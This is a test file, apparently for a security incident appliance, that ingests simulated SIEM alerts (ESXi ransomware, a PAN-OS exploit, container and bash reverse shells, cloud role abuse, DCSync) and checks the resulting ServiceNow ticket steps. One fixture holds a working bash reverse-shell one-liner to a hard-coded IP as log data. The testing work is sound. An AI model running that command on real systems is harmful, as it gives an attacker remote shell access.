/** Attacks that no sample has, sent in by engines' own records: what incident each gives, and what its ticket tells people to do. */
import { afterEach, expect, test } from "bun:test";
import { detection } from "../harness/appliance.ts";
import { cleanUpScenes, login, type Scene, scene, turn } from "../harness/ticket-scene.ts";

afterEach(cleanUpScenes);

const at = "2026-03-13T04:29:00";

const wazuh = (level: number, description: string, more: object = {}) => ({
  timestamp: `${at}.000+0000`,
  rule: { level, description, id: "100210", groups: ["local"], firedtimes: 1, mail: true },
  agent: { id: "000", name: "wazuh-manager" },
  manager: { name: "wazuh-manager" },
  id: `1773376140.${description.length}`,
  decoder: { name: "syslog" },
  location: "10.20.1.7",
  data: {},
  ...more,
});

interface Told {
  title: string;
  level: string;
  actor: string;
  text: string;
  /** The orders alone, without way and reason. */
  steps: string[];
}

const started = () => scene({ AUTO_PUSH_ENABLED: "false" });

/** Every incident with its ticket for ServiceNow. */
async function told(it: Scene): Promise<Told[]> {
  await turn(it, 5_000);
  const admin = await login(it);
  const { incidents } = (await admin.get("/api/incidents?sort_by=risk_score&sort_dir=desc")).body;
  return Promise.all(
    incidents.map(async (row: { incident_id: string; risk_level: string; group_key: string }) => {
      const { body } = await admin.post(`/api/incidents/${row.incident_id}/tickets/preview`, { system: "servicenow" });
      const payload = typeof body.payload === "string" ? JSON.parse(body.payload) : body.payload;
      const text = String(payload.work_notes ?? payload.description);
      return {
        title: payload.short_description,
        level: row.risk_level,
        actor: row.group_key,
        text,
        steps: text.split("\n").flatMap((line) => (line.startsWith("- ") ? [line.slice(2)] : [])),
      };
    }),
  );
}

async function single(it: Scene): Promise<Told> {
  const [one, ...others] = await told(it);
  expect(others.map(({ title }) => title)).toEqual([]);
  return one as Told;
}

const ordersTo = ({ steps }: Told, pattern: RegExp) => steps.filter((step) => pattern.test(step.split(" (")[0] ?? ""));

test("a single ransomware alarm of a virtualisation host: nobody isolates or switches it off by an EDR console", async () => {
  const it = await started();
  const record = wazuh(15, "ESXi: mass encryption of virtual machine disks", {
    predecoder: { hostname: "esx08.acme.example", program_name: "shell" },
    full_log: "esx08 shell[2099]: [root]: ./encrypt -p /vmfs/volumes",
  });
  expect((await it.appliance.ingest([record], { query: "?format=wazuh" })).status).toBe(200);
  const one = await single(it);
  expect(one).toMatchObject({ level: "critical", actor: "esx08.acme.example" });
  expect(one.title).toBe("CRITICAL: Files encrypted (ransomware) on esx08.acme.example");
  expect(one.text).toContain("esx08.acme.example (virtualisation host)");
  expect(ordersTo(one, /^(?:Isolate|Collect memory|Re-image|Turn off)/)).toEqual([]);
  expect(one.steps.filter((step) => /EDR console|Get-WinEvent|ausearch/.test(step))).toEqual([]);
  expect(ordersTo(one, /leave it powered on$/)).not.toEqual([]);
  expect(ordersTo(one, /^Take the backups of .* offline or make them read-only/)).not.toEqual([]);
});

test("a disk that is being encrypted on a virtualisation host is no file to quarantine, and its encryptor no process of a sensor", async () => {
  const it = await started();
  const raw = { process: { executable: "/tmp/enc", pid: 4711 }, file: { path: "/vmfs/volumes/ds1/web1/web1.vmdk" } };
  const given = { rule_title: "Ransomware encrypts files", level: "critical", host: "vmhost3", user: null, raw };
  await it.appliance.ingest([detection(given)]);
  const one = await single(it);
  expect(one.text).toContain("vmhost3 (virtualisation host)");
  expect(ordersTo(one, /^(?:End|Quarantine|Block the hash)/)).toEqual([]);
});

test("a gateway that was exploited is a network device; an injected command is no code in another process", async () => {
  const it = await started();
  const record = wazuh(15, "PAN-OS: GlobalProtect command injection (CVE-2024-3400)", {
    predecoder: { hostname: "edge-berlin" },
    full_log: "edge-berlin threat: POST /ssl-vpn/hipreport.esp",
  });
  await it.appliance.ingest([record], { query: "?format=wazuh" });
  const one = await single(it);
  expect(one.title).toBe("HIGH: PAN-OS: GlobalProtect command injection (CVE-2024-3400) on edge-berlin");
  expect(one.text).toContain("edge-berlin (network device)");
  expect(ordersTo(one, /^Isolate/)).toEqual([]);
});

test("a shell in a container: its node is isolated with its owners, by no command of Windows, and the event is told, not its wrapping", async () => {
  const it = await started();
  const record = wazuh(14, "Falco: Reverse shell in container", {
    rule: { ...wazuh(14, "Falco: Reverse shell in container").rule, mitre: { id: ["T1059.004"] } },
    agent: { id: "017", name: "node-3", ip: "10.0.4.3" },
    data: { output_fields: { "k8s.pod.name": "web-5d7f", "container.image": "nginx" } },
  });
  await it.appliance.ingest([record], { query: "?format=wazuh" });
  const one = await single(it);
  expect(one).toMatchObject({ level: "high", actor: "node-3" });
  expect(ordersTo(one, /^Isolate node-3 once the owners of what depends on it agree$/)).not.toEqual([]);
  expect(ordersTo(one, /^Isolate node-3$/)).toEqual([]);
  expect(one.text).not.toMatch(/Get-WinEvent|PowerShell|script block logging|mail true|groups local/);
  expect(one.text).not.toContain("reports a web shell");
});

test("the address that a shell calls back to is blocked, though it stands in the command alone", async () => {
  const it = await started();
  const raw = { EventID: "EXECVE", CommandLine: "bash -c 'bash -i >& /dev/tcp/45.155.204.9/4444 0>&1'" };
  const title = "Linux Reverse Shell via Bash";
  await it.appliance.ingest([detection({ rule_title: title, level: "high", host: "web-3", user: null, raw })]);
  const one = await single(it);
  expect(one.level).toBe("high");
  expect(ordersTo(one, /^Block 45\.155\.204\.9 /)).toHaveLength(2);
});

test("clouds: the owner of all, a role that was taken, and an identity provider's account, each by its own way", async () => {
  const it = await started();
  const account = "123456789012";
  const call = (user: string, rule_title: string, level: string, eventName: string) =>
    detection({
      ...{ rule_title, rule_id: rule_title, level, user, host: null, src_ip: null },
      raw: { eventSource: "iam.amazonaws.com", eventName, userIdentity: { arn: user }, awsRegion: "eu-central-1" },
    });
  await it.appliance.ingest([
    call(`arn:aws:iam::${account}:root`, "AWS Root Account Login Without MFA", "critical", "ConsoleLogin"),
    call(`arn:aws:sts::${account}:assumed-role/ops/eve`, "AWS CloudTrail Logging Disabled", "high", "StopLogging"),
    detection({
      ...{ rule_title: "User Added To Global Administrator Role", rule_id: "ga", level: "high" },
      ...{ user: "mia@contoso.example", host: null },
      raw: { activityDisplayName: "Add member to role", initiatedBy: { user: { userPrincipalName: "mia" } } },
    }),
  ]);
  const all = await told(it);
  expect(all.map(({ level }) => level)).toEqual(["high", "high", "high"]);
  const of = (part: string) => all.find(({ actor }) => actor.includes(part)) as Told;
  expect(ordersTo(of(":root"), /^Change the password of .* and check its MFA device$/)).not.toEqual([]);
  expect(ordersTo(of(":root"), /^Deactivate/)).toEqual([]);
  expect(ordersTo(of("assumed-role"), /^Revoke the active sessions of the role/)).not.toEqual([]);
  expect(ordersTo(of("assumed-role"), /^Deactivate/)).toEqual([]);
  expect(ordersTo(of("mia"), /^Disable/)).not.toEqual([]);
  expect(of("mia").text).not.toContain("Disable-ADAccount");
});

test("passwords sprayed at a gateway, and the account that was got into under any of its spellings", async () => {
  const it = await started();
  const from = { host: null, src_ip: "185.220.101.7" };
  const spellings = ["FIRMA\\müller", "müller@firma.example", "MÜLLER", "mu\u0308ller@firma.example"];
  const failed = spellings.map((user) =>
    detection({ ...from, user, rule_title: "VPN Login Failed", rule_id: "vpn-1", level: "low" }),
  );
  const spray = { ...from, user: null, rule_title: "Password Spray Against VPN Gateway", rule_id: "vpn-2" };
  const success = {
    ...from,
    user: "müller",
    rule_title: "Successful VPN Login After Multiple Failures",
    rule_id: "v3",
  };
  await it.appliance.ingest([...failed, detection(spray), detection(success)]);
  expect((await told(it)).map(({ actor, level }) => `${actor} ${level}`)).toEqual([
    "müller high",
    "185.220.101.7 medium",
  ]);
});

test("a service account is asked of its owner, never for a second factor or a lockout", async () => {
  const it = await started();
  const raw = { EventID: 4662, Channel: "Security", Properties: "{1131f6ad-9c07-11d1-f79f-00c04fc2dcd2}" };
  const user = "CORP\\svc_backup";
  await it.appliance.ingest([detection({ rule_title: "Mimikatz DC Sync", level: "high", host: "DC01", user, raw })]);
  const one = await single(it);
  expect(one.level).toBe("critical");
  expect(ordersTo(one, /lockout|MFA for svc_backup|^Disable svc_backup|^Isolate/)).toEqual([]);
  expect(one.text).toContain("in the day before or since 2026-03-13 04:29 UTC");
});

test("exceptions that take everything out: the incident says so, and sends nobody to look for alarms", async () => {
  const it = await started();
  const rule_title = "Mimikatz Use";
  await it.appliance.ingest([detection({ rule_title, level: "critical", user: "CORP\\redteam" })]);
  expect((await single(it)).level).toBe("critical");
  const exception = { entity: "Primary Site", rule: rule_title, actor: "redteam", reason: "red team" };
  expect((await (await login(it)).post("/api/exceptions", exception)).status).toBe(201);
  await turn(it, 60_000);
  const one = await single(it);
  expect(one.title).toBe("LOW: Nothing that counts against redteam");
  expect(one.text).toContain("exceptions have taken out all that it rested on");
  expect(one.text).not.toMatch(/SIEM alarms alone|Open the alarms|0 SIEM alarms,|; \n|somebody opened it/);
});

test("one that a person opened, and that nothing is left of, is for that person to explain", async () => {
  const it = await started();
  await it.appliance.ingest([detection({ rule_title: "Odd Logon", level: "low", user: "jdoe" })]);
  const given = { entity: "Primary Site", actor: "jdoe", reason: "Reported by phone" };
  expect((await it.admin.post("/api/incidents", given)).status).toBe(201);
  const exception = { entity: "Primary Site", rule: "Odd Logon", reason: "a known script" };
  expect((await it.admin.post("/api/exceptions", exception)).status).toBe(201);
  await turn(it, 60_000);
  const one = await single(it);
  expect(one.text).toContain("somebody opened it by hand");
  expect(ordersTo(one, /^Ask admin what /)).not.toEqual([]);
});
